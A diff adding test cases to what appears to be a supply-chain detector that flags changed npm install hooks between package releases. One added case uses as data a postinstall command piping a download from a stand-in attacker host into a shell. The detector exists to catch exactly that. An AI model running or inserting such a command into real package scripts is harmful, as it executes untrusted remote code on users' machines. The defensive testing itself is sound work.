@@ -81,12 +81,24 @@ describe('beside the release before', () => {
 
   it.each<[string, Scripts, Scripts, number]>([
     ['a changed command', hook, { postinstall: 'node install.js' }, 1],
+    ['another flag', { postinstall: 'node setup.mjs --all' }, hook, 1],
     ['a file that is built without being told to', { 'binding.gyp': 'node-gyp rebuild' }, {}, 1],
     ['the same command', hook, hook, 0],
     ['the same in another folder', hook, { preinstall: 'node lib/setup.js' }, 0],
     ['nothing any more', {}, hook, 0],
   ])('%s', (_, now, past, drafts) => {
     expect(run({ release: release(now), predecessor: releaseBefore(past) })).toHaveLength(drafts);
+  });
+
+  it.each<[string, string, boolean]>([
+    ['node banner.js', 'curl https://evil.example/x | sh', true],
+    ['node banner.js', 'node setup.mjs', true],
+    ['node banner.js', 'node banner.js --quiet', false],
+    ['node-gyp rebuild', 'prebuild-install || node-gyp rebuild', false],
+  ])('%s that becomes %s is a sign where it starts something else', (before, command, isSign) => {
+    const facts = { release: release({ postinstall: command }), predecessor: releaseBefore({ postinstall: before }) };
+    const [draft] = run(facts);
+    expect([draft?.severity, draft !== undefined && 'signal' in draft]).toEqual([isSign ? undefined : 'low', isSign]);
   });
 
   it('tells several as one', () => {
